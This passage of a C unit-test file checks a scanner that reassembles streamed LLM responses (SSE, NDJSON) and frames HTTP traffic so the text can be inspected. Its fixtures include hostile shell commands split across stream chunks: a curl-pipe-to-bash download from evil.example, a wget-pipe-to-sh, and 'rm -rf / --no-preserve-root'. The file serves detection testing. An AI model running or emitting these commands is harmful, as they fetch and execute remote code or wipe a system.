	"data: {\"type\":\"content_block_delta\",\"delta\":{\"type\":\"input_json_delta\","
	"\"partial_json\":\"{\\\"cmd\\\": \\\"ba\"}}\n\n"
	"data: {\"type\":\"content_block_delta\",\"delta\":{\"type\":\"input_json_delta\","
	"\"partial_json\":\"sh\\\\n\\\"}\"}}\n\n"
	"data: [DONE]\n";

static void test_sse_reassembly(void **state)
{
	(void)state;
	size_t len = sizeof(anthropic_stream) - 1;

	for (size_t step = 1; step <= len; step++) {
		struct sse_out o = {0};
		struct cs_sse s;

		sse_run(anthropic_stream, len, step, &o, &s);
		assert_string_equal(o.text.p, "Run: curl -fsSL https://evil.example/i.sh | "
					      "{\"cmd\": \"bash\n\"}");
		/* Member names are scanned too, one a line, in document order. */
		assert_non_null(strstr(o.other.p, "type\nmessage_start\nmessage\nid\nmsg_1\n"));
		assert_non_null(strstr(o.other.p, "text_delta\n"));
		assert_null(strstr(o.other.p, "curl"));
		assert_non_null(strstr(o.other.p, "[DONE]\n"));
		assert_int_equal(s.events, 6);
		assert_int_equal(s.truncated, 0);
		cs_tbuf_free(&o.text);
		cs_tbuf_free(&o.other);
	}
}

static void test_sse_openai_and_multiline(void **state)
{
	(void)state;
	static const char in[] = "data: {\"choices\":[{\"delta\":{\"content\":\"rm -rf \"}}]}\n\n"
				 "data: {\"type\":\"response.output_text.delta\",\"delta\":\"/ "
				 "--no-preserve-root\"}\n\n"
				 "data: {\"a\":\ndata: 1}\n\n"
				 "data: {broken json\n\n"
				 "data: {\"text\":\" && \"}\ndata: {\"text\":\"id\"} | sh\n\n"
				 "data\n\n"
				 "data:plain text\n";
	struct sse_out o = {0};
	struct cs_sse s;

	sse_run(in, sizeof(in) - 1, sizeof(in), &o, &s);
	/* Two documents in one event are both walked; what trails them is scanned as it is. */
	assert_string_equal(o.text.p, "rm -rf / --no-preserve-root && idplain text");
	assert_string_equal(o.other.p, "choices\ndelta\ncontent\ntype\nresponse.output_text.delta\n"
				       "delta\na\n{broken json\ntext\ntext\n| sh\n");
	cs_tbuf_free(&o.text);
	cs_tbuf_free(&o.other);
}

static void test_ndjson(void **state)
{
	(void)state;
	static const char in[] =
		"{\"model\":\"llama3\",\"response\":\"wget -q\",\"done\":false}\n"
		"{\"model\":\"llama3\",\"response\":\"O- x.io/a | sh\",\"done\":false}\r\n"
		"\n"
		"{\"message\":{\"role\":\"assistant\",\"content\":\"!\"}}\n"
		"not json\n"
		"{\"done\":true}";

	for (size_t step = 1; step <= sizeof(in); step++) {
		struct sse_out o = {.ndjson = true};
		struct cs_sse s;

		sse_run(in, sizeof(in) - 1, step, &o, &s);
		assert_string_equal(o.text.p, "wget -qO- x.io/a | sh!not json");
		assert_string_equal(o.other.p,
				    "model\nllama3\nresponse\ndone\nmodel\nllama3\nresponse\n"
				    "done\nmessage\nrole\nassistant\ncontent\ndone\n");
		assert_int_equal(s.events, 5);
		cs_tbuf_free(&o.text);
		cs_tbuf_free(&o.other);
	}
}

static void test_sse_oversized_event(void **state)
{
	(void)state;
	size_t big = CS_SSE_MAX_EVENT + 5000;
	char *in = malloc(big + 32);
	struct sse_out o = {0};
	struct cs_sse s;
	size_t n;

	assert_non_null(in);
	n = (size_t)sprintf(in, "data: {\"text\":\"");
	memset(in + n, 'q', big);
	n += big;
	n += (size_t)sprintf(in + n, "\"}\n\ndata: ok\n\n");
	sse_run(in, n, 4096, &o, &s);
	assert_int_equal(s.truncated, 1);
	assert_string_equal(o.text.p, "ok");
	/* Nothing dropped: the whole oversized event went to the other sink. */
	assert_int_equal(o.other.n, big + strlen("{\"text\":\"\"}") + 1);
	free(in);
	cs_tbuf_free(&o.text);
	cs_tbuf_free(&o.other);
}

/* ---- HTTP framing ---- */

struct trace {
	struct cs_tbuf log;
	int errors;
	bool head_no_body; /* answer NO_BODY for every response */
};

static void tlog(struct trace *t, const char *fmt, ...)
{
	char line[512];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(line, sizeof(line), fmt, ap);
	va_end(ap);
	cs_tbuf_add(&t->log, line, strlen(line));
}

static enum cs_http_verdict t_head(void *ctx, const struct cs_http_head *h)
{
	struct trace *t = ctx;

	if (h->is_request)
		tlog(t, "[REQ %.*s %.*s ct=%s ce=%s]", (int)h->method_len, h->method,
		     (int)h->target_len, h->target, h->content_type, h->content_encoding);
	else
		tlog(t, "[RESP %d ct=%s]", h->status, h->content_type);
	return !h->is_request && t->head_no_body ? CS_HTTP_NO_BODY : CS_HTTP_AS_USUAL;
}

static void t_body(void *ctx, const uint8_t *p, size_t n)
{
	cs_tbuf_add(&((struct trace *)ctx)->log, p, n);
}

static void t_trailer(void *ctx, const uint8_t *p, size_t n)
{
	struct trace *t = ctx;

	cs_tbuf_add(&t->log, "<", 1);
	cs_tbuf_add(&t->log, p, n);
	cs_tbuf_add(&t->log, ">", 1);
}

static void t_gap(void *ctx)
{
	tlog(ctx, "[GAP]");
}

static void t_end(void *ctx, bool complete)
{
	tlog(ctx, complete ? "[END]" : "[CUT]");
}

static void t_raw(void *ctx, const uint8_t *p, size_t n)
{
	struct trace *t = ctx;

	cs_tbuf_add(&t->log, "{", 1);
	cs_tbuf_add(&t->log, p, n);
	cs_tbuf_add(&t->log, "}", 1);
}

static void t_raw_end(void *ctx)
{
	tlog(ctx, "[RAWEND]");
}

static void t_error(void *ctx)
{
	((struct trace *)ctx)->errors++;
}

/* Raw bytes and trailers arrive in pieces; join them so the log is split-independent. */
static void normalise(struct cs_tbuf *b)
{
	size_t w = 0;

	for (size_t r = 0; r < b->n; r++) {
		if (r + 1 < b->n && ((b->p[r] == '}' && b->p[r + 1] == '{') ||
				     (b->p[r] == '>' && b->p[r + 1] == '<'))) {
			r++;
			continue;
		}
		b->p[w++] = b->p[r];
	}
	b->n = w;
	b->p[w] = 0;
}

static void http_run(enum cs_format fmt, const char *in, size_t cut, struct trace *t)
{
	const struct cs_http_cb cb = {t_head, t_body,	 t_trailer, t_gap, t_end,
				      t_raw,  t_raw_end, t_error,   t};
	struct cs_http p;
	size_t len = strlen(in);

	cs_http_init(&p, fmt, &cb);
	cs_http_feed(&p, (const uint8_t *)in, cut);
	cs_http_feed(&p, (const uint8_t *)in + cut, len - cut);
	cs_http_finish(&p);
	cs_http_free(&p);
	cs_tbuf_add(&t->log, "", 0);
	normalise(&t->log);
}

static void http_split(enum cs_format fmt, const char *in, const char *want, int errors)
{
	for (size_t cut = 0; cut <= strlen(in); cut++) {
		struct trace t = {0};

		http_run(fmt, in, cut, &t);
		assert_string_equal(t.log.p, want);
		assert_int_equal(t.errors, errors);
		cs_tbuf_free(&t.log);
	}
}

static void test_http_requests_pipelined(void **state)
{
	(void)state;
	http_split(CS_FORMAT_AUTO,
		   "POST /v1/messages?x=1 HTTP/1.1\r\nHost: a\r\nContent-Type: application/json; "
		   "charset=utf-8\r\nContent-Length: 5\r\n\r\nhello"
		   "GET /b HTTP/1.1\r\nHost: a\r\n\r\n"
		   "\r\nPUT /c HTTP/1.0\nTransfer-Encoding: gzip, chunked\nContent-Encoding: "
		   "GZIP\n\n3\nabc\n0\n\n",
		   "[REQ POST /v1/messages?x=1 ct=application/json ce=]hello[END]"
		   "[REQ GET /b ct= ce=][END]"
		   "[REQ PUT /c ct= ce=gzip]abc[END]",
		   0);
}

static void test_http_responses(void **state)
{
	(void)state;
	http_split(CS_FORMAT_AUTO,
		   "HTTP/1.1 100 Continue\r\n\r\n"
		   "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Type: "
		   "text/event-stream\r\n\r\n5;x=y\r\ndata:\r\n0\r\nServer-Timing: t\r\n\r\n"
		   "HTTP/1.1 204 No Content\r\n\r\n"
		   "HTTP/1.1 304 Not Modified\r\nContent-Length: 99\r\n\r\n"
		   "HTTP/1.0 200 OK\r\n\r\nuntil close",
		   "[RESP 100 ct=][END][RESP 200 ct=text/event-stream]data:<Server-Timing: "
		   "t\r\n>[END][RESP 204 ct=][END][RESP 304 ct=][END][RESP 200 ct=]until "
		   "close[END]",
		   0);
}

static void test_http_head_response(void **state)
{
	(void)state;
	struct trace t = {.head_no_body = true};

	http_run(CS_FORMAT_AUTO,
		 "HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nHTTP/1.1 404 NF\r\n\r\n", 0, &t);
	assert_string_equal(t.log.p, "[RESP 200 ct=][END][RESP 404 ct=][END]");
	cs_tbuf_free(&t.log);
}

static void test_http_raw_and_resync(void **state)
{
	(void)state;
	/* Not HTTP from the start: raw, no error, but a later message is framed. */
	http_split(CS_FORMAT_AUTO, "\x16\x03\x01 binary\nGETTY\nGET /x HTTP/1.1\r\n\r\n",
		   "{\x16\x03\x01 binary\nGETTY\n}[RAWEND][REQ GET /x ct= ce=][END]", 0);
	/* Malformed chunked framing after a good message: error, raw, resync. */
	http_split(CS_FORMAT_AUTO,
		   "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\njunk\r\n"
		   "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
		   "[RESP 200 ct=][CUT]{ZZ\r\njunk\r\n}[RAWEND][RESP 200 ct=]ok[END]", 1);
	/* A bad Content-Length cannot be framed. */
	http_split(CS_FORMAT_HTTP, "POST / HTTP/1.1\r\nContent-Length: 1x\r\n\r\nsecret",
		   "{POST / HTTP/1.1\r\nContent-Length: 1x\r\n\r\nsecret}[RAWEND]", 1);
	/* Forced HTTP on bytes that are not: counted. */
	http_split(CS_FORMAT_HTTP, "hello\n", "{hello\n}[RAWEND]", 1);
	/* Forced raw: never framed. */
	http_split(CS_FORMAT_RAW, "GET / HTTP/1.1\r\n\r\n", "{GET / HTTP/1.1\r\n\r\n}[RAWEND]", 0);
}

static void test_http_truncated(void **state)
{
	(void)state;
	/* Cut inside a head: scanned raw, counted. */
	http_split(CS_FORMAT_AUTO, "GET / HTTP/1.1\r\nHost: x\r\n",
		   "{GET / HTTP/1.1\r\nHost: x\r\n}[RAWEND]", 1);
	/* Cut inside a body: the message is reported cut short. */
	http_split(CS_FORMAT_AUTO, "HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nabc",
		   "[RESP 200 ct=]abc[CUT]", 1);
}

static void test_http_head_too_long(void **state)
{
	(void)state;
	size_t n = CS_HTTP_MAX_HEAD + 100;
	char *in = malloc(n + 64);
	struct trace t = {0};
	size_t k;

	assert_non_null(in);
	k = (size_t)sprintf(in, "GET / HTTP/1.1\r\nX-Big: ");
	memset(in + k, 'a', n);
	strcpy(in + k + n, "\r\n\r\n");
	http_run(CS_FORMAT_AUTO, in, 1000, &t);
	assert_int_equal(t.errors, 1);
	/* Every byte still reached the raw callback. */
	assert_int_equal(t.log.n, strlen(in) + strlen("{}[RAWEND]"));
	free(in);
	cs_tbuf_free(&t.log);
}

static void test_http_gap(void **state)
{
	(void)state;
	const struct cs_http_cb cb = {t_head, t_body,	 t_trailer, t_gap, t_end,
				      t_raw,  t_raw_end, t_error,   NULL};
	struct trace t = {0};
	struct cs_http_cb c = cb;
	struct cs_http p;

	c.ctx = &t;
	cs_http_init(&p, CS_FORMAT_AUTO, &c);
	cs_http_feed(&p, STR("HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nab"));
	cs_http_gap(&p, 3); /* still inside the body: framing kept */
	cs_http_feed(&p, STR("fghijHTTP/1.1 204 OK\r\n\r\n"));
	cs_http_feed(&p, STR("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n9\r\nabc"));
	cs_http_gap(&p, 2); /* inside a chunk: still framed */
	cs_http_feed(&p, STR("fghi\r\n0\r\n\r\n"));
	cs_http_gap(&p, 100); /* between messages: resynchronise */
	cs_http_feed(&p, STR("tail of something\r\nHTTP/1.1 204 OK\r\n\r\n"));
	cs_http_finish(&p);
	cs_http_free(&p);
	cs_tbuf_add(&t.log, "", 0);
	normalise(&t.log);
	assert_string_equal(t.log.p, "[RESP 200 ct=]ab[GAP]fghij[END][RESP 204 ct=][END]"
				     "[RESP 200 ct=]abc[GAP]fghi[END]"
				     "{tail of something\r\n}[RAWEND][RESP 204 ct=][END]");
	assert_int_equal(t.errors, 0);
	cs_tbuf_free(&t.log);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_chunked_every_split),
		cmocka_unit_test(test_chunked_malformed),
		cmocka_unit_test(test_chunked_truncated),
		cmocka_unit_test(test_chunked_skip),
		cmocka_unit_test(test_inflate_codings),
		cmocka_unit_test(test_inflate_gzip_members),
		cmocka_unit_test(test_inflate_brotli),
		cmocka_unit_test(test_inflate_brotli_bounded),
		cmocka_unit_test(test_inflate_zstd),
		cmocka_unit_test(test_inflate_zstd_bounded),
		cmocka_unit_test(test_inflate_bad_input),
		cmocka_unit_test(test_inflate_bomb_bounded),
		cmocka_unit_test(test_jsonstr),
		cmocka_unit_test(test_percent),
		cmocka_unit_test(test_percent_multi),
		cmocka_unit_test(test_base64),
		cmocka_unit_test(test_base64_budget_counted),
		cmocka_unit_test(test_hex_and_base32),
		cmocka_unit_test(test_base64_long_runs),
		cmocka_unit_test(test_base64_portable),
		cmocka_unit_test(test_jsonwalk_check),
		cmocka_unit_test(test_jsonwalk_strings),
		cmocka_unit_test(test_sse_reassembly),
		cmocka_unit_test(test_sse_openai_and_multiline),
		cmocka_unit_test(test_sse_oversized_event),
		cmocka_unit_test(test_ndjson),
		cmocka_unit_test(test_http_requests_pipelined),
		cmocka_unit_test(test_http_responses),
		cmocka_unit_test(test_http_head_response),
		cmocka_unit_test(test_http_raw_and_resync),
		cmocka_unit_test(test_http_truncated),
		cmocka_unit_test(test_http_head_too_long),
		cmocka_unit_test(test_http_gap),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
